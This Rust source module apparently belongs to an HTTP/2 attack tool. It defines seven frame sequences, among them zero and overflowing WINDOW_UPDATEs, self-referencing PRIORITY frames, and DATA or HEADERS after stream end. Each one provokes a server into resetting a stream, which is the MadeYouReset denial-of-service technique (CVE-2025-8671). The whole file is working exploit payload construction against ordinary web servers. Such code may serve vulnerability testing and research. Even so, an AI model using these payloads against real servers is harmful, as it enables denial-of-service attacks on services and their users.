//! The variants of MadeYouReset (CVE-2025-8671): what makes a server reset a stream.

use crate::attacker::{DATA, END_HEADERS, HEADERS, PRIORITY, WINDOW_UPDATE, fields, frame, message};

/// The name, and the frames that open a stream by this head and then break a rule.
pub type Provocation = (&'static str, fn(u32, &[u8]) -> Vec<u8>);

fn open(stream: u32, head: &[u8], ends: bool) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | u8::from(ends), stream, head)
}

pub const PROVOCATIONS: [Provocation; 7] = [
    ("a WINDOW_UPDATE of nothing", |s, head| [open(s, head, false), frame(WINDOW_UPDATE, 0, s, &[0; 4])].concat()),
    ("a window that overflows", |s, head| {
        [open(s, head, false), frame(WINDOW_UPDATE, 0, s, &[0x7f, 0xff, 0xff, 0xff])].concat()
    }),
    ("a PRIORITY on itself", |s, head| {
        let itself = [&s.to_be_bytes()[..], &[0]].concat();
        [open(s, head, false), frame(PRIORITY, 0, s, &itself)].concat()
    }),
    ("a PRIORITY of the wrong size", |s, head| [open(s, head, false), frame(PRIORITY, 0, s, &[0; 4])].concat()),
    ("DATA after the end", |s, head| [open(s, head, true), frame(DATA, 0, s, &message("hi"))].concat()),
    ("HEADERS after the end", |s, head| {
        [open(s, head, true), frame(HEADERS, END_HEADERS, s, &fields(&[("x", "y")]))].concat()
    }),
    ("more than the content-length", |s, head| {
        let head = [head, &fields(&[("content-length", "1")])].concat();
        [frame(HEADERS, END_HEADERS, s, &head), frame(DATA, 0, s, &message("hi"))].concat()
    }),
];
